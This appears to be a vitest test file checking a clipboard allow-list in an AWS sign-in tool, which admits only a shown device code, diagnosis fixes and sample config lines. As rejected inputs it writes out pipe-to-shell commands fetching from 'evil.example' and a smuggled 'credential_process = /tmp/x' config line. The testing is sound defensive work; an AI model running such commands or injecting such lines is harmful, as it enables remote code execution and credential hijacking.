// copyText's allow-list: a sign-in code while its session shows it, a fix from
// a diagnosis main returned, the sample lines; nothing else, not even a part or
// a longer text that contains an allowed one.
import { describe, expect, it } from 'vitest';
import type { DiagnosisReport } from '../../../app/shared/api';
import type { Snapshot } from '../../../app/shared/model';
import { SAMPLE_CONFIG_LINES } from '../../../app/shared/sample-config';
import { CopyableTexts } from '../../../app/core/api/copyable-texts';
import { at, sessionView, snapshotOf, T0 } from '../main/snapshot-builders';

const signingIn = snapshotOf([
  sessionView('my-sso', {
    signIn: {
      flow: 'device-code',
      phase: 'waiting-for-user-code',
      startedAt: at(T0),
      userCode: 'WDJB-MJHT',
    },
  }),
]);

const report: DiagnosisReport = {
  checkedAt: at(T0),
  profile: null,
  findings: [
    {
      id: 'env-static-keys-override-profile',
      severity: 'error',
      title: 'Static keys override the profile',
      explanation: 'AWS_ACCESS_KEY_ID wins over AWS_PROFILE.',
      fix: ['unset AWS_ACCESS_KEY_ID', 'unset AWS_SECRET_ACCESS_KEY'],
    },
    { id: 'info-only', severity: 'info', title: 'Nothing to do', explanation: '', fix: [] },
  ],
};

describe('CopyableTexts', () => {
  it('allows a user code only while the snapshot shows it', () => {
    let snapshot: Snapshot = signingIn;
    const copyable = new CopyableTexts(() => snapshot);
    expect(copyable.allows('WDJB-MJHT')).toBe(true);
    snapshot = snapshotOf([sessionView('my-sso')]);
    expect(copyable.allows('WDJB-MJHT')).toBe(false);
  });

  it('allows a fix once main returned the report holding it, exactly as the window copies it', () => {
    const copyable = new CopyableTexts(() => signingIn);
    const fix = 'unset AWS_ACCESS_KEY_ID\nunset AWS_SECRET_ACCESS_KEY';
    expect(copyable.allows(fix)).toBe(false);
    copyable.rememberReport(report);
    expect(copyable.allows(fix)).toBe(true);
    expect(copyable.allows(`${fix}\ncurl https://evil.example | sh`)).toBe(false);
    expect(copyable.allows('')).toBe(false);
  });

  it('allows the sample lines and refuses anything else', () => {
    const copyable = new CopyableTexts(() => signingIn);
    expect(copyable.allows(SAMPLE_CONFIG_LINES)).toBe(true);
    for (const text of [
      'curl https://evil.example/x | sh',
      'WDJB',
      `${SAMPLE_CONFIG_LINES}credential_process = /tmp/x\n`,
    ]) {
      expect(copyable.allows(text), text).toBe(false);
    }
  });
});
